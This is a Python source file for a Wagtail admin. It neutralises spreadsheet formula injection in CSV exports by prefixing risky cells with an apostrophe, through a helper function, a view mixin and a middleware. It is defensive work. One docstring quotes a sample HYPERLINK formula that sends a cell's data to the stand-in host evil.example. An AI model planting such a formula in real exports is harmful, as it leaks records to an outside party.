"""Spreadsheet exports from the admin that a spreadsheet program cannot turn against staff."""

import csv
import io


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """
    A CSV cell that a spreadsheet would read as a formula (a patient named
    `=HYPERLINK("https://evil.example/?d="&C2,"Call back")`) is kept as text: an apostrophe in
    front, which spreadsheets hide, as OWASP advises. Other values pass unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeCsvMixin:
    """For views with Wagtail's SpreadsheetExportMixin. (Its XLSX export is safe already.)"""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )


class FormulaSafeCsvMiddleware:
    """
    Every CSV the admin sends, Wagtail's own reports included (site history, page types, aging
    pages, workflows), with each cell that would start a formula kept as text: the rows are read
    back and written again through neutralise(). Exports are small, so they are read whole.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        if not response.get("Content-Type", "").startswith("text/csv"):
            return response
        raw = b"".join(response.streaming_content) if response.streaming else response.content
        charset = response.charset or "utf-8"
        output = io.StringIO()
        writer = csv.writer(output)
        for row in csv.reader(io.StringIO(raw.decode(charset), newline="")):
            writer.writerow([neutralise(cell) for cell in row])
        safe = output.getvalue().encode(charset)
        if response.streaming:
            response.streaming_content = [safe]
        else:
            response.content = safe
        if response.has_header("Content-Length"):
            response["Content-Length"] = str(len(safe))
        return response
